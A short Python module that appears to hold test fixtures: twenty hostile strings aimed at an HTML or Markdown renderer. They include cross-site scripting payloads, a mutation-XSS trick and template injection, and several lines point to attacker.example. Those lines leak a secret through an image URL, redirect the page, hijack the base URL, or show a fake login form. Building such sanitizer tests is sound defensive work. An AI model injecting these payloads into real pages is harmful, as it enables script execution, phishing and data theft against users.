"""Twenty texts that try to do something to a page that shows them. Each would set `window.owned`, go away or fetch."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg onload=window.owned=1></svg>",
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    '<a href="javascript:window.owned=1">click here</a>',
    "[click here](javascript:window.owned=1)",
    "![picture](https://attacker.example/steal?q=secret)",
    "<https://attacker.example/>",
    '<div style="position:fixed;inset:0" onmouseover="window.owned=1">all of it</div>',
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<base href='https://attacker.example/'>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://attacker.example/><input name=key><button>Log in again</button></form>",
    "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "`</script><script>window.owned=1</script>`",
    "${window.owned=1} {{constructor.constructor('window.owned=1')()}} {% set x = 1 %}",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>",
    "[a]: javascript:window.owned=1\n\n[a] &lt;img src=x onerror=window.owned=1&gt;",
    "<object data='data:text/html,<script>parent.owned=1</script>'></object>\\\" onfocus=window.owned=1 x=\\\"",
)
assert len(HOSTILE) == 20
